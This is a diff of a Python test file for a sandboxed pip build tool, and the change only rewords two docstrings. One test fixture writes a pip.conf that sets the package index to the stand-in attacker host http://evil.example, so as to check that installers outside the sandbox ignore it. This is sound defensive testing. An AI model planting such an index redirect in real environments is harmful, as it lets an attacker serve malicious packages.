@@ -85,7 +85,7 @@ def test_a_virtualenv_says_of_itself_in_vain_that_it_is_complete(host, precious)
 
 
 def test_constraints_are_where_the_application_makes_no_names(host):
-    """What it could exchange, root would remove or have pip read."""
+    """The application cannot exchange these files, which root would remove or have pip read."""
     have_pip_run(host, "'--constraint' in sys.argv and Path('seen').write_text(sys.argv[sys.argv.index('--constraint') + 1])\n")
     app = description(host, requirements="requirements.txt", constraints="flask==3.0.0\n")
     build(app, packed(host.place, {**CODE, "requirements.txt": "flask"}))
@@ -227,7 +227,7 @@ def test_what_is_left_of_a_deep_tree_goes_with_the_next_build(host):
 
 
 def test_home_is_empty_and_goes_with_the_build(host):
-    """What the running application writes to shared/ is read by no installer outside of its sandbox."""
+    """No installer outside of the sandbox reads files that the running application writes to shared/."""
     (host.place / "shared/.config/pip").mkdir(parents=True)
     (host.place / "shared/.config/pip/pip.conf").write_text("[global]\nindex-url = http://evil.example\n")
     have_pip_run(host, "Path(sys.prefix, 'home').write_text(os.environ['HOME'] + ' ' + ' '.join(os.listdir(os.environ['HOME'])))\n")
